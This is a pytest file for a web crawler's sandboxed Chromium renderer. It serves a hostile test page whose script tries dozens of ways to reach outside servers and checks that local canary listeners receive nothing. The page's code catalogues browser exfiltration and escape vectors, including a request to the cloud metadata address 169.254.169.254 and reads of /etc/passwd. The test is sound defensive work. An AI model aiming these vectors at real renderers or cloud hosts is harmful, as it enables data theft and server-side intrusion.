"""A hostile page tries everything to reach another server than through our fetcher: canaries listen, and hear nothing.

One listens where the page aims at, one takes the place of the proxy that the browser believes in: what reached it got past
the interception of requests. The page notes every attempt as a link, so that the crawl shows that it was made.
"""

import contextlib
import re
import socket
import threading
from collections.abc import Iterator
from pathlib import Path

import anyio
import pytest
from playwright.async_api import Error, async_playwright

from crawler.cli.demo.site import Site
from crawler.fetch.render import chromium
from crawler.model.outcome import code
from tests.render.crawls import crawled, settings, shell

pytestmark = [pytest.mark.anyio, pytest.mark.slow, pytest.mark.usefixtures("browser_with_windows")]

HEAD = """
<link rel=dns-prefetch href=http://canary.example><link rel=preconnect href=CANARY><link rel=prefetch href=CANARY/prefetch>
<link rel=prefetch href=/prefetch-own><link rel=preload as=script href=CANARY/preload><link rel=modulepreload href=CANARY/module>
<link rel=prerender href=CANARY/prerender><link rel=icon href=CANARY/icon><link rel=manifest href=CANARY/manifest>
<link rel=stylesheet href=CANARY/style><meta http-equiv=refresh content="9;url=CANARY/refresh">
<script type=speculationrules>{"prefetch": [{"source": "list", "urls": ["CANARY/rule", "/rule-own"], "eagerness": "immediate"}],
 "prerender": [{"source": "list", "urls": ["/prerender-own"], "eagerness": "immediate"}]}</script>
"""

SCRIPT = r"""
const tried = (name, attempt) => {
    const link = document.createElement("a");
    link.href = "/tried-" + name; link.textContent = name;
    document.body.append(link);
    try { const made = attempt(); if (made && made.catch) made.catch(() => 0); } catch (error) { link.title = error; }
};
const frame = (fill) => { const made = document.createElement("iframe"); fill(made); document.body.append(made); };
const inner = `fetch("CANARY/inner");new WebSocket("WSCANARY/inner");fetch("CANARY/inner",{mode:"no-cors"})`;
tried("fetch", () => fetch("CANARY/fetch"));
tried("no-cors", () => fetch("CANARY/no-cors", {mode: "no-cors"}));
tried("keepalive", () => fetch("CANARY/keepalive", {keepalive: true}));
tried("post", () => fetch("/post", {method: "POST", body: "x"}));
tried("put", () => fetch("CANARY/put", {method: "PUT", headers: {"x-y": "z"}}));
tried("xhr", () => { const made = new XMLHttpRequest(); made.open("GET", "CANARY/xhr"); made.send(); });
tried("name", () => fetch("http://canary.example:PORT/name"));
tried("localhost", () => fetch("http://localhost:PORT/localhost"));
tried("decimal", () => fetch("http://2130706433:PORT/decimal"));
tried("mapped", () => fetch("http://[::ffff:127.0.0.1]:PORT/mapped"));
tried("metadata", () => fetch("http://169.254.169.254/latest/meta-data/"));
tried("redirect", () => fetch("/to-canary"));
tried("script-redirect", () => { const made = document.createElement("script"); made.src = "/to-canary"; document.head.append(made); });
tried("credentials", () => { const made = document.createElement("script"); made.src = "http://user:pass@127.0.0.1:PORT/x"; document.head.append(made); });
tried("import", () => import("CANARY/import.js"));
tried("beacon", () => navigator.sendBeacon("CANARY/beacon", "x"));
tried("ping", () => { const made = document.createElement("a"); made.href = "#x"; made.ping = "CANARY/ping"; made.click(); });
tried("websocket", () => new WebSocket("WSCANARY/websocket"));
tried("websocket-own", () => new WebSocket("ws://" + location.host + "/websocket"));
tried("events", () => new EventSource("CANARY/events"));
tried("webrtc", () => {
    const made = new RTCPeerConnection({iceServers: [
        {urls: "stun:127.0.0.1:UDP"}, {urls: "turn:127.0.0.1:PORT?transport=tcp", username: "a", credential: "b"}]});
    made.createDataChannel("x");
    return made.createOffer().then((offer) => made.setLocalDescription(offer));
});
tried("webtransport", () => new WebTransport("https://127.0.0.1:UDP/webtransport"));
tried("service-worker", () => navigator.serviceWorker.register("/worker.js"));
tried("service-worker-prototype", () => ServiceWorkerContainer.prototype.register.call(navigator.serviceWorker, "/worker.js"));
tried("worker", () => new Worker("/worker.js"));
tried("shared-worker", () => new SharedWorker("/worker.js"));
tried("blob-worker", () => new Worker(URL.createObjectURL(new Blob([inner]))));
tried("popup", () => window.open("CANARY/popup"));
tried("popup-own", () => window.open("/popup-own"));
tried("popup-blob", () => window.open(URL.createObjectURL(new Blob(["<script>" + inner + "<\/script>"], {type: "text/html"}))));
tried("download", () => { const made = document.createElement("a"); made.href = "/download"; made.download = "x"; made.target = "_blank"; made.click(); });
tried("form", () => { const made = document.createElement("form"); made.action = "CANARY/form"; made.method = "POST"; document.body.append(made); made.submit(); });
tried("form-get", () => { const made = document.createElement("form"); made.action = "CANARY/form-get"; made.target = "_blank"; document.body.append(made); made.submit(); });
tried("image", () => { new Image().src = "CANARY/image"; });
tried("video", () => { const made = document.createElement("video"); made.src = "CANARY/video"; document.body.append(made); made.load(); });
tried("font", () => new FontFace("x", "url(CANARY/font)").load());
tried("object", () => { const made = document.createElement("object"); made.data = "CANARY/object"; document.body.append(made); });
tried("embed", () => { const made = document.createElement("embed"); made.src = "CANARY/embed"; document.body.append(made); });
tried("frame", () => frame((made) => { made.src = "CANARY/frame"; }));
tried("frame-srcdoc", () => frame((made) => { made.srcdoc = "<script>" + inner + "<\/script><img src=CANARY/image>"; }));
tried("frame-sandboxed", () => frame((made) => { made.sandbox = "allow-scripts"; made.srcdoc = "<script>" + inner + "<\/script>"; }));
tried("frame-data", () => frame((made) => { made.src = "data:text/html,<script>" + inner + "<\/script>"; }));
tried("frame-blob", () => frame((made) => { made.src = URL.createObjectURL(new Blob(["<script>" + inner + "<\/script>"], {type: "text/html"})); }));
tried("frame-file", () => frame((made) => { made.src = "file:///etc/passwd"; }));
tried("file", () => fetch("file:///etc/passwd").then((reply) => reply.text()).then((text) => { document.title = text; }));
tried("alert", () => alert("x"));
tried("print", () => print());
tried("report", () => new ReportingObserver(() => 0).observe());
"""


class Canary:
    """Listens on a port of its own, and notes what it hears."""

    def __init__(self, kind: socket.SocketKind = socket.SOCK_STREAM) -> None:
        self.heard: list[bytes] = []
        self._socket = socket.socket(socket.AF_INET, kind)
        self._socket.bind(("127.0.0.1", 0))
        self.port = int(self._socket.getsockname()[1])
        if kind is socket.SOCK_STREAM:
            self._socket.listen(100)
        threading.Thread(target=self._listen, args=(kind,), daemon=True).start()

    def _listen(self, kind: socket.SocketKind) -> None:
        while True:
            try:
                if kind is socket.SOCK_DGRAM:
                    self.heard.append(self._socket.recv(1000))
                    continue
                caller, _ = self._socket.accept()
            except OSError:
                if self._socket.fileno() < 0:
                    return
            else:  # each in its own thread: a browser opens connections ahead, and says nothing on them
                threading.Thread(target=self._hear, args=(caller,), daemon=True).start()

    def _hear(self, caller: socket.socket) -> None:
        with caller, contextlib.suppress(OSError):
            caller.settimeout(2)
            self.heard.append(b"connected")
            self.heard.append(caller.recv(200))

    def close(self) -> None:
        self._socket.close()


@pytest.fixture
def canaries() -> Iterator[dict[str, Canary]]:
    made = {"aim": Canary(), "udp": Canary(socket.SOCK_DGRAM), "proxy": Canary()}
    yield made
    for each in made.values():
        each.close()


def aimed(text: str, canaries: dict[str, Canary]) -> str:
    port = canaries["aim"].port
    text = text.replace("WSCANARY", f"ws://127.0.0.1:{port}").replace("CANARY", f"http://127.0.0.1:{port}")
    return text.replace("PORT", str(port)).replace("UDP", str(canaries["udp"].port))


def hostile(canaries: dict[str, Canary]) -> Site:
    site = Site()
    shell(site, "/", aimed(SCRIPT, canaries), head=aimed(HEAD, canaries))
    site.redirect("/to-canary", aimed("CANARY/redirected", canaries), 302)
    worker = aimed(
        'fetch("CANARY/worker");new WebSocket("WSCANARY/worker");importScripts("CANARY/imported.js")',
        canaries,
    )
    site.raw("/worker.js", body=worker.encode(), headers={"Content-Type": "text/javascript"})
    return site


async def test_no_attempt_of_a_hostile_page_reaches_anybody(
    canaries: dict[str, Canary], monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    monkeypatch.setattr(chromium, "DEAD_PROXY", f"http://127.0.0.1:{canaries['proxy'].port}")
    site = hostile(canaries)
    with site.serve() as origin:
        found = await crawled(settings(origin, tmp_path))
    assert {name: canary.heard for name, canary in canaries.items()} == {"aim": [], "udp": [], "proxy": []}
    tried = set(re.findall(r'tried\("([a-z-]+)"', SCRIPT))
    assert len(tried) > 40
    assert {path.removeprefix("/tried-") for path in found if path.startswith("/tried-")} == tried
    assert {asked.method for asked in site.log} == {"GET"}
    paths = {asked.target for asked in site.log if not asked.target.startswith("/tried-")}
    paths = {path for path in paths if not path.endswith("-no-such-page")}
    assert paths <= {"/", "/robots.txt", "/to-canary", "/worker.js"}, (
        "no prefetch, popup, download, WebSocket"
    )
    start = found["/"].facts
    assert start
    assert start.rendering
    assert start.rendering.after
    assert start.title == "Shell", "no file was read"


BLOB = 'new Blob(["<script>fetch(`CANARY/x`)</" + "script>"], {type: "text/html"})'
FORM = 'const f = document.createElement("form"); f.action = "CANARY/x"; document.body.append(f); '
LEADING_AWAY = (
    'location.href = "CANARY/x"',
    'setTimeout(() => location.replace("CANARY/x"), 1000)',
    'const a = document.createElement("a"); a.href = "CANARY/x"; a.click()',
    'document.head.innerHTML += `<meta http-equiv=refresh content="0;url=CANARY/x">`',
)
LEADING_NOWHERE = (
    'document.head.innerHTML += `<meta http-equiv=refresh content="3;url=CANARY/x">`',
    'location.href = "file:///etc/passwd"',
    f"location.href = URL.createObjectURL({BLOB})",
    'location.href = "data:text/html,<script>fetch(`CANARY/x`)</" + "script>"',
    'location.href = "javascript:fetch(`CANARY/x`)"',
    FORM + 'f.method = "POST"; f.submit()',
    FORM + 'f.target = "_blank"; f.submit()',
    "location.reload()",
)


async def test_a_page_cannot_navigate_to_anybody(
    canaries: dict[str, Canary], monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    monkeypatch.setattr(chromium, "DEAD_PROXY", f"http://127.0.0.1:{canaries['proxy'].port}")
    site, scripts = Site(), (*LEADING_AWAY, *LEADING_NOWHERE)
    site.page("/", links=[f"/{number}" for number in range(len(scripts))])
    for number, script in enumerate(scripts):
        shell(site, f"/{number}", aimed(f"document.title = 'Page {number}'; {script}", canaries))
    with site.serve() as origin:
        found = await crawled(settings(origin, tmp_path))
    assert not any(canary.heard for canary in canaries.values())
    outcomes = {script: found[f"/{number}"].outcome for number, script in enumerate(scripts)}
    ended = {script: code(outcome) if outcome else "" for script, outcome in outcomes.items()}
    assert ended == dict.fromkeys(LEADING_AWAY, "moved") | dict.fromkeys(LEADING_NOWHERE, "listed")


async def test_canaries_hear_same_page_in_browser_that_nobody_holds(
    canaries: dict[str, Canary],
) -> None:
    """The control: without our measures most attempts reach somebody, however busy the machine is."""
    expected = {"/fetch", "/no-cors", "/beacon", "/websocket", "/redirected", "/worker", "/image"}

    def heard() -> set[str]:
        requests = (part for part in canaries["aim"].heard if part.startswith((b"GET", b"POST")))
        return {request.split(b" ")[1].decode() for request in requests}

    with hostile(canaries).serve() as origin:
        async with async_playwright() as playwright:
            process = await playwright.chromium.launch(
                executable_path=chromium.find(None), chromium_sandbox=False
            )
            with anyio.move_on_after(600):
                # The form leads away from the page, sometimes before all was asked, or before it is there.
                while not expected <= heard():
                    page = await process.new_page()
                    with contextlib.suppress(Error):
                        await page.goto(f"{origin}/", wait_until="commit")
                        await page.wait_for_timeout(1_000)
                    await page.close()
            await process.close()
    assert expected <= heard()
